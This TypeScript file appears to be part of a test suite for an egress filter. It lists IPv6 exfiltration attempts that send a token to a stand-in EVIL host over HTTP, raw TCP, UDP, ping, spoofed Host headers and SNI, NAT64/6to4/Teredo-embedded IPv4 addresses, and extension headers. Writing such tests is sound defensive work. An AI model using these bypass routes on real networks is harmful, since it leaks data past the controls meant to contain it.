/** IPv6, which is easily forgotten. */
import type {Attacker, Attempt} from '../attempt.ts';
import {EVIL} from '../addresses.ts';
import {http, say, tlsTo} from '../wire.ts';

const way = (id: string, title: string, attempt: (by: Attacker) => Promise<unknown>): Attempt => ({
  id: `ipv6-${id}`,
  title,
  invariant: 3,
  attempt: async (by) => void (await attempt(by)),
  control: 'free',
});

export const IPV6: readonly Attempt[] = [
  way('http', 'plain HTTP to an IPv6 address', (by) => by.curl(`http://[${EVIL[6]}]/${by.token}`)),
  way('https', 'HTTPS to an IPv6 address, without SNI', (by) => by.curl(`https://[${EVIL[6]}]/${by.token}`)),
  way('tcp', 'opaque bytes to an IPv6 address', (by) => say(by.connect(EVIL[6], 31337), by.token)),
  way('udp', 'UDP over IPv6', (by) => by.datagram(EVIL[6], 9999, by.token)),
  way('ping', 'ping over IPv6', (by) => by.program('raw', 'ping', EVIL[6], by.token)),
  way('host', 'an allowed Host at an IPv6 address', (by) =>
    say(by.connect(EVIL[6], 80), http(`GET /private/${by.token} HTTP/1.1`, 'Host: plain.test')),
  ),
  way('sni', 'an SNI that no rule holds at an IPv6 address', async (by) =>
    say(await tlsTo(by, EVIL[6], 'evil.test'), http(`GET /${by.token} HTTP/1.1`, 'Host: evil.test')),
  ),
  way('nat64', 'an IPv4 address behind the NAT64 prefix', (by) => by.curl(`http://[64:ff9b::cb00:7142]/${by.token}`)),
  way('6to4', 'an IPv4 address inside a 6to4 one', (by) => by.curl(`http://[2002:cb00:7142::1]/${by.token}`)),
  way('teredo', 'an IPv4 address inside a Teredo one', (by) =>
    by.curl(`http://[2001:0:cb00:7105:0:0:34ff:8ebd]/${by.token}`),
  ),
  ...(['hop', 'destination', 'many', 'atomic'] as const).map((kind) =>
    way(`extension-${kind}`, `UDP behind extension headers (${kind})`, (by) =>
      by.program('raw', 'extension6', by.ip6, EVIL[6], by.token, kind),
    ),
  ),
];
